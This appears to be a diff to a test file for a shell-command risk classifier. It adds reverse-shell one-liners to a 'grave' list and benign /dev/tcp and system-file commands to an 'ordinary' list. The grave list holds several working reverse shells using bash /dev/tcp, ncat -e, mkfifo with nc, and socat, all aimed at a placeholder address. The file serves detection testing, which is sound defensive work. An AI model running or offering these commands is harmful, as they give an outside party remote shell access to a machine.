@@ -50,6 +50,9 @@ const GRAVE: readonly [kind: string, ...commands: string[]][] = [
   [
     'shell.reverse_shell',
     'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
+    'exec 5<>/dev/tcp/203.0.113.7/443; cat <&5 | while read line; do $line 2>&5 >&5; done',
+    `bash -c 'exec 3<>/dev/tcp/203.0.113.7/9; while read -r l <&3; do eval "$l" >&3; done'`,
+    '0<&196; exec 196<>/dev/tcp/203.0.113.7/443; sh <&196 >&196 2>&196',
     'ncat 203.0.113.7 4444 -e /bin/bash',
     'rm -f /tmp/q; mkfifo /tmp/q; cat /tmp/q | sh -i 2>&1 | nc 203.0.113.7 80 > /tmp/q',
     'socat tcp:203.0.113.7:80 exec:"bash -li",pty,stderr',
@@ -285,6 +288,13 @@ t.test('what is ordinary in its place is reported without gravity', async (t) =>
 });
 
 const ORDINARY = [
+  `timeout 2 bash -c 'exec 3<>/dev/tcp/db/5432 && echo open || echo closed'`,
+  'timeout 1 bash -c "</dev/tcp/db/5432" 2>/dev/null',
+  `exec 3<>/dev/tcp/db/80; printf 'GET / HTTP/1.0\\r\\n\\r\\n' >&3; cat <&3 | head -3`,
+  `echo 'exec /bin/sh' >> initramfs/init`,
+  `python3 -c "import os; os.execv('/bin/bash', ['/bin/bash', './play.sh', '3'])"`,
+  'openssl req -x509 -nodes -subj /CN=a -keyout a.key -out /etc/ssl/certs/a.crt',
+  `sed -i 's/^UUID=1/UUID=2/' /etc/fstab`,
   'A=$(curl -s http://api.test/v); echo "$A" | jq .',
   'A=$(curl -s https://sh.rustup.rs); sh -c "$A"',
   'cp a.log logs/auth.log',
